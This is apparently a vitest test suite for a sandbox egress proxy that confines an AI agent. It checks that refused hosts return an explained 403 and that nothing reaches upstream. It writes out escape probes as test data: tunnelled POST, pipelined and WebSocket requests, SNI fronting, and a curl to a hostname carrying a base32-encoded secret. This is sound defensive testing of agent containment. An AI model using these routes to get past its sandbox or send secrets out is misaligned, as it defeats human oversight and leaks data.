// A refused host tells the agent why, and stays unreachable. For HTTPS, nearly all agent
// traffic, pipelock answers a CONNECT the allowlist refuses with a tunnel of its own: TLS with
// a leaf of the bottle's CA, and the 403 and its explanation (naming the supervise tool) for
// every request inside. From inside a real bottle, as the agent user: curl and fetch show the
// text; no request of any kind in such a tunnel (GET, POST, upgrade, pipelined, HTTP/1.0,
// no TLS at all, another server name) reaches the recording stand-in, which answers on every
// name used here; and a name carrying a secret still gets only the plain 403.
import { randomBytes } from "node:crypto";
import { join } from "node:path";
import { beforeAll, expect, it } from "vitest";
import { base32 } from "../../src/shared/dlp/host-forms.js";
import { PACKAGE_ROOT } from "../support/cli/cli-process.js";
import { copyIntoAgent, type RunningBottle } from "../support/docker/bottle-harness.js";
import { describeWithEngine } from "../support/docker/engine.js";
import { curlThrough, pipelockAddress } from "../support/docker/escape-bottle.js";
import {
  type ExchangeOp,
  httpRequest,
  probe,
  webSocketFrame,
  webSocketUpgrade,
} from "../support/docker/escape-probe.js";
import { escapeSuite } from "../support/docker/escape-suite.js";
import { bundleForNode } from "../support/sidecars/bundle.js";
import {
  everythingReceived,
  ipOn,
  type RecordingUpstream,
} from "../support/standins/escape-standins.js";

const ALLOWED = "allowed.example.test";
const UNLISTED = "unlisted.example.test";
const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const SECRET = `CbRefusal-${[...randomBytes(18)].map((b) => ALPHABET[b % 62]).join("")}`;
const B32 = base32(Buffer.from(SECRET));
const SECRET_HOST = `${B32}.elsewhere.example.test`;
const EXPLAINED = `"${UNLISTED}:443" is not on this bottle's egress allowlist`;
const TOOL = "`request_egress_host`";
const ASK = `call the MCP tool ${TOOL} of the \`supervise\` server with host "${UNLISTED}"`;
const HEADER = /\r?\nx-claude-bottle-refusal: ([^\r\n]*)/i;

describeWithEngine("escape: a refused host says why, and stays unreachable", () => {
  const suite = escapeSuite();
  let bottle: RunningBottle;
  let upstream: RecordingUpstream;
  let pipelock: string;
  const receivedRequests = suite.receivedInEachTest(() => upstream);

  /** Everything the stand-in received during this test, as "METHOD url". */
  const received = async (): Promise<string[]> =>
    (await receivedRequests()).map((r) => `${r.method} ${r.url}`);
  const tunnel = (send: Buffer[], options: Partial<ExchangeOp> = {}): ExchangeOp => ({
    kind: "exchange",
    proxy: pipelock,
    connect: `${UNLISTED}:443`,
    tls: true,
    send,
    quietMs: 2500,
    ...options,
  });
  const get = (path: string, version = "1.1") =>
    httpRequest(`GET ${path} HTTP/${version}`, [["Host", UNLISTED]]);

  beforeAll(async () => {
    bottle = await suite.startBottle("refusal", {
      bottle: `
env:
  AGENT_SECRET: {from_env: CB_REFUSAL_SECRET}
egress:
  allow: [${ALLOWED}]
supervise: true
`,
      env: { CB_REFUSAL_SECRET: SECRET },
    });
    pipelock = pipelockAddress(bottle);
    // Every name used here answers on the stand-in: a request let through lands there.
    upstream = await suite.startUpstream(bottle, [ALLOWED, UNLISTED, SECRET_HOST]);
    const client = join(suite.dir, "fetch-client.mjs");
    await bundleForNode(join(PACKAGE_ROOT, "test/escape/refusal-fetch-client.ts"), client);
    copyIntoAgent(bottle, client, "/tmp/fetch-client.mjs");
  });

  it("reaches the allowlisted host (the control)", async () => {
    expect(await curlThrough(bottle, `https://${ALLOWED}/control`)).toMatchObject({
      connect: 200,
      http: 200,
    });
    expect(await received()).toEqual(["GET /control"]);
  });

  it("shows curl https:// the reason and the supervise tool, with a certificate of the bottle's CA", async () => {
    // Threat, inverted: a refusal the agent cannot read sends it looking for ways around.
    const r = await bottle.exec(
      `curl -sS -m 15 -v https://${UNLISTED}/refusal/curl -w '\\n%{http_connect} %{http_code}\\n' 2>/tmp/curl-err; echo "exit $?"; cat /tmp/curl-err`,
    );
    expect(r.stdout).toContain(`${EXPLAINED}.\nTo ask for it, ${ASK}`);
    expect(r.stdout).toContain("\n200 403\nexit 0\n");
    expect(r.stdout).toMatch(/subject: CN=unlisted\.example\.test/);
    expect(r.stdout).toMatch(/issuer: [^\n]*claude-bottle pipelock/);
    expect(r.stdout).toMatch(/< x-claude-bottle-refusal: [^\n]*request_egress_host/i);
    const failing = await bottle.exec(
      `curl -fsS -m 15 https://${UNLISTED}/refusal/curl-f 2>&1; echo "exit $?"`,
    );
    expect(failing.stdout).toMatch(/error: 403\n[\s\S]*exit 22\n$/);
    expect(await received()).toEqual([]);
    const audit = (await bottle.pipelockAudit()).filter((e) => e.host === UNLISTED);
    expect(audit.map((e) => [e.method, e.decision, e.rule, e.path])).toEqual([
      ["CONNECT", "denied", "not-allowlisted", null],
      ["GET", "denied", "not-allowlisted", "/refusal/curl"],
      ["CONNECT", "denied", "not-allowlisted", null],
      ["GET", "denied", "not-allowlisted", "/refusal/curl-f"],
    ]);
  });

  it("shows fetch the reason and the tool, in the body and a header", async () => {
    const r = await bottle.exec(`node /tmp/fetch-client.mjs https://${UNLISTED}/refusal/fetch`);
    const answer = JSON.parse(r.stdout) as { status: number; header: string; body: string };
    expect(answer.status).toBe(403);
    expect(answer.body).toContain(EXPLAINED);
    expect(answer.body).toContain(ASK);
    expect(answer.header).toContain(EXPLAINED);
    expect(answer.header).toContain(TOOL);
    expect(await received()).toEqual([]);
  });

  it("sends nothing upstream for GET, POST, pipelined, HTTP/1.0 and upgrade requests inside the tunnel", async () => {
    // Threat: a tunnel that completes TLS is a tunnel; no request in it may go anywhere.
    const body = "payload=refused-post";
    const results = await probe(bottle.agentContainer, [
      tunnel([get("/refusal/a"), get("/refusal/b")], { delayMs: 300 }),
      tunnel([
        httpRequest(
          "POST /refusal/post HTTP/1.1",
          [
            ["Host", UNLISTED],
            ["Content-Length", String(body.length)],
          ],
          body,
        ),
      ]),
      tunnel([
        Buffer.concat([
          get("/refusal/p1"),
          get("/refusal/p2"),
          httpRequest("PUT /refusal/p3 HTTP/1.1", [
            ["Host", UNLISTED],
            ["Content-Length", "0"],
          ]),
        ]),
      ]),
      tunnel([get("/refusal/old", "1.0")]),
      tunnel([
        Buffer.concat([
          webSocketUpgrade("/refusal/ws", UNLISTED),
          webSocketFrame(1, "frame for nobody"),
        ]),
      ]),
    ]);
    const counts = results.map((r) => (r.response ?? "").match(/HTTP\/1\.[01] 403 /g)?.length);
    expect(counts).toEqual([2, 1, 3, 1, 1]);
    for (const r of results) {
      expect(r.connectStatus).toBe(200);
      expect(r.response).toContain(EXPLAINED);
      expect(r.response).toMatch(HEADER);
    }
    expect(await received()).toEqual([]);
    expect(await upstream.frames()).toEqual([]);
  });

  it("refuses a client that sends no TLS, and closes", async () => {
    const results = await probe(bottle.agentContainer, [
      tunnel([get("/refusal/plain-in-tunnel")], { tls: false }),
      tunnel([Buffer.from("SSH-2.0-OpenSSH_9.2\r\n")], { tls: false }),
    ]);
    for (const r of results) {
      expect(r.connectStatus).toBe(200);
      expect(r.response).toMatch(/^HTTP\/1\.1 403 Forbidden\r\n/);
      expect(r.response).toContain("Connection: close");
      expect(r.response).toContain(EXPLAINED);
    }
    expect(await received()).toEqual([]);
  });

  it("ends the handshake for another TLS server name, and logs no secret in it", async () => {
    // Threat: the tunnel's name and the name TLS asks for differ (fronting), or the server
    // name carries a secret that an echo of it would log or mint.
    const results = await probe(bottle.agentContainer, [
      tunnel([get("/refusal/sni")], { sni: ALLOWED }),
      tunnel([get("/refusal/sni-secret")], { sni: SECRET_HOST }),
    ]);
    for (const r of results) {
      expect(r.status ?? null).toBeNull();
      expect(r.response ?? "").not.toContain("HTTP/1.1");
    }
    const audit = await bottle.pipelockAudit();
    const mismatches = audit.filter((e) => e.rule === "sni-mismatch");
    expect(mismatches.map((e) => e.detail).sort()).toEqual([
      'TLS server name "[redacted]"',
      `TLS server name "${ALLOWED}"`,
    ]);
    expect(JSON.stringify(audit).toLowerCase()).not.toContain(B32);
    expect(await received()).toEqual([]);
  });

  it("keeps the plain 403 for a name carrying a secret: no tunnel, no certificate, no log of it", async () => {
    const r = await bottle.exec(
      `curl -sS -m 15 -v https://${SECRET_HOST}/refusal/secret-name 2>&1; echo "exit $?"`,
    );
    expect(r.stdout).toMatch(/< HTTP\/1\.1 403 Forbidden/);
    expect(r.stdout).toMatch(/< X-Claude-Bottle-Refusal: [^\n]*\[redacted\]/i);
    expect(r.stdout).toContain("CONNECT tunnel failed, response 403");
    // No handshake, so no certificate was shown for the name.
    expect(r.stdout).not.toMatch(/subject: /);
    const audit = await bottle.pipelockAudit();
    expect(audit.filter((e) => e.host === "[redacted]").length).toBeGreaterThanOrEqual(1);
    expect(JSON.stringify(audit).toLowerCase()).not.toContain(B32);
    const everything = everythingReceived(await upstream.requests(), []).toLowerCase();
    expect(everything).not.toContain(B32);
    expect(await received()).toEqual([]);
  });

  it("says the same for plain http:// and for an unlisted IP address", async () => {
    // The class: the refusal is readable however the host is reached.
    const plain = await bottle.exec(
      `curl -sS -m 15 -i http://${UNLISTED}/refusal/plain; echo; echo "exit $?"`,
    );
    expect(plain.stdout).toMatch(/^HTTP\/1\.1 403 Forbidden/);
    expect(plain.stdout).toMatch(/x-claude-bottle-refusal: [^\n]*request_egress_host/i);
    expect(plain.stdout).toContain(`"${UNLISTED}:80" is not on this bottle's egress allowlist`);
    const ip = ipOn(upstream.container, bottle.egressNetwork);
    const literal = await curlThrough(bottle, `https://${ip}/refusal/ip`);
    expect(literal).toMatchObject({ connect: 200, http: 403 });
    expect(literal.body).toContain(`"${ip}:443" is an IP address`);
    expect(literal.body).toContain(TOOL);
    expect(await received()).toEqual([]);
  });
});
